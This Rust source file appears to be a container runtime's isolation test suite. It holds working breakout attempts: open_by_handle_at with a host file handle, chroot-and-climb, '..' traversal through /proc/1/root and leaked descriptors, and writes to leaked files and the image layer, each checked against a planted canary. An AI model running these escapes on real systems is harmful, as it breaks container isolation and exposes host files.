//! Reaching files of the host.

use crate::protection::Protection::{
    self, Capabilities, Descriptors, Root, Seccomp, UserNamespace,
};
use crate::sys::{Arg, call};
use crate::world::{World, refuse};
use crate::{Attempt, Fail, Outcome};
use std::fs;
use std::os::fd::AsRawFd;
use std::path::Path;

const ROOT: &[Protection] = &[Root];
const LEAK: &[Protection] = &[Descriptors];

pub const ATTEMPTS: &[Attempt] = &[
    Attempt::new(
        "handle",
        "open a file of the host by its handle, from a mount of the same disk",
        &[UserNamespace, Seccomp, Capabilities],
        handle,
    ),
    Attempt::new("chroot-climb", "leave a root by chroot and climbing", ROOT, chroot_climb),
    Attempt::new("dot-dot", "climb from the root and from each volume with ..", ROOT, dot_dot)
        .harmless(),
    Attempt::new(
        "leaked-descriptor",
        "find an open directory of the host and climb from it",
        LEAK,
        descriptor,
    )
    .harmless(),
    Attempt::new("leaked-cwd", "climb from the working directory", LEAK, cwd).harmless(),
    Attempt::new(
        "leaked-descriptor-write",
        "write to a file that was left open",
        LEAK,
        descriptor_write,
    )
    .harmless(),
    Attempt::new("host-path", "open the canary by its path", ROOT, host_path).harmless(),
    Attempt::new("layer-write", "change the image's own file, not a copy", ROOT, layer),
    Attempt::new("state-directory", "find rocket's state: images, pods, locks", ROOT, state)
        .harmless(),
];

fn handle(world: &World) -> Outcome {
    // struct file_handle: length, type, bytes; as the test got it from name_to_handle_at.
    let text = world.told("HANDLE")?;
    let Some((kind, hex)) = text.split_once(':') else {
        return Err(Fail::Impossible(format!("no handle: {text}")));
    };
    let pair = |at| hex.get(at..at + 2).and_then(|two| u8::from_str_radix(two, 16).ok());
    let bytes: Vec<u8> = (0..hex.len()).step_by(2).filter_map(pair).collect();
    let kind: u32 = kind.parse().unwrap_or(0);
    let length = u32::try_from(bytes.len()).unwrap_or(0);
    let handle = [&length.to_ne_bytes()[..], &kind.to_ne_bytes(), &bytes].concat();
    let mut last = refuse("no mount of the host's disk");
    for path in ["/vol", "/etc/hosts", "/open"] {
        let Ok(mount) = fs::File::open(path) else { continue };
        let args = &mut [Arg::Int(i64::from(mount.as_raw_fd())), Arg::In(&handle), Arg::Int(0)];
        last = call(libc::SYS_open_by_handle_at, args).map_err(Fail::from).and_then(|fd| {
            let text = fs::read_to_string(format!("/proc/self/fd/{fd}"))?;
            world.has_token(&text, &format!("a handle and {path}"))
        });
        if last.is_ok() {
            break;
        }
    }
    last
}

/// A file's handle as the attempt wants it: `TYPE:HEX`.
///
/// # Errors
/// What the kernel answers.
pub fn handle_of(path: &str) -> Outcome {
    let mut handle = [&64u32.to_ne_bytes()[..], &[0; 68]].concat();
    let mut mount = [0u8; 4];
    let args = &mut [
        Arg::Int(-100),
        Arg::Text(path),
        Arg::Out(&mut handle),
        Arg::Out(&mut mount),
        Arg::Int(0),
    ];
    call(libc::SYS_name_to_handle_at, args)?;
    let word = |at: usize| {
        let bytes = handle.get(at..at + 4).and_then(|four| four.try_into().ok());
        u32::from_ne_bytes(bytes.unwrap_or_default())
    };
    let bytes = handle.iter().skip(8).take(word(0) as usize);
    let hex: String = bytes.map(|byte| format!("{byte:02x}")).collect();
    Ok(format!("{}:{hex}", word(4)))
}

/// Looks for the canary below `top`, and above it as far as there is anything.
fn climb(world: &World, top: &str) -> Outcome {
    let secret = world.told("SECRET")?;
    let mut up = top.to_owned();
    for _ in 0..24 {
        if let Ok(text) = fs::read_to_string(format!("{up}{secret}")) {
            return world.has_token(&text, &up);
        }
        up.push_str("/..");
    }
    refuse(format!("no canary above {top}"))
}

fn chroot_climb(world: &World) -> Outcome {
    let inner = crate::world::directory("chroot")?;
    call(libc::SYS_chroot, &mut [Arg::Text(&inner)])?;
    for _ in 0..24 {
        call(libc::SYS_chdir, &mut [Arg::Text("..")])?;
    }
    call(libc::SYS_chroot, &mut [Arg::Text(".")])?;
    let secret = world.told("SECRET")?;
    world.has_token(&fs::read_to_string(secret)?, "a root above")
}

fn dot_dot(world: &World) -> Outcome {
    // Outside of pods the volume is a directory of the host, with the descriptor to it open.
    let mut last = refuse("nothing to climb from");
    for top in ["/", "/vol", "/open", "/closed", "/proc/1/root", "/proc/1/cwd"] {
        last = climb(world, top);
        if last.is_ok() {
            return last;
        }
    }
    let root = format!("/proc/{}/root", world.init());
    if world.init() != 1 { climb(world, &root) } else { last }
}

/// What is open beside the standard streams and the directory that is being read.
fn open_files() -> Vec<(i32, String)> {
    let entries = fs::read_dir("/proc/self/fd").into_iter().flatten().flatten();
    let numbers = entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
    let files = numbers.filter_map(|fd: i32| {
        let path = fs::read_link(format!("/proc/self/fd/{fd}")).ok()?;
        Some((fd, path.display().to_string()))
    });
    files.filter(|(fd, path)| *fd > 2 && !path.starts_with("/proc/")).collect()
}

fn descriptor(world: &World) -> Outcome {
    for (fd, path) in open_files() {
        let place = format!("/proc/self/fd/{fd}");
        if Path::new(&place).is_dir() {
            return climb(world, &place).or_else(|_| refuse(format!("{path} leads nowhere")));
        }
    }
    refuse("no directory is open")
}

fn descriptor_write(_: &World) -> Outcome {
    for (fd, path) in open_files() {
        let args = &mut [Arg::Int(i64::from(fd)), Arg::In(b"escaped\n"), Arg::Int(8)];
        if call(libc::SYS_write, args).is_ok() {
            return Ok(format!("wrote to {path}"));
        }
    }
    refuse("nothing is open")
}

fn cwd(world: &World) -> Outcome {
    climb(world, ".")
}

fn host_path(world: &World) -> Outcome {
    let secret = world.told("SECRET")?;
    let paths = [secret.clone(), format!("/proc/{}/root{secret}", world.init())];
    let mut last = refuse("no path");
    for path in paths {
        last = fs::read_to_string(&path)
            .map_err(Fail::from)
            .and_then(|text| world.has_token(&text, &path));
        if last.is_ok() {
            break;
        }
    }
    last
}

fn layer(world: &World) -> Outcome {
    // Whether that was the layer's file only the test can see: it says where one lies.
    let mut file = fs::OpenOptions::new().append(true).open("/layer-file")?;
    std::io::Write::write_all(&mut file, b"escaped\n")?;
    drop(file);
    let path = world.told("LAYER_FILE").map_err(|_| Fail::Refused("a copy of its own".into()))?;
    let text = fs::read_to_string(&path)?;
    if text.contains("escaped") { Ok(format!("{path} has changed")) } else { refuse("a copy") }
}

fn state(world: &World) -> Outcome {
    let paths =
        ["/var/lib/rocket".to_owned(), format!("/proc/{}/root/var/lib/rocket", world.init())];
    for path in paths {
        if let Ok(names) = fs::read_dir(&path) {
            return Ok(format!("{path} with {} entries", names.count()));
        }
    }
    refuse("not in sight")
}
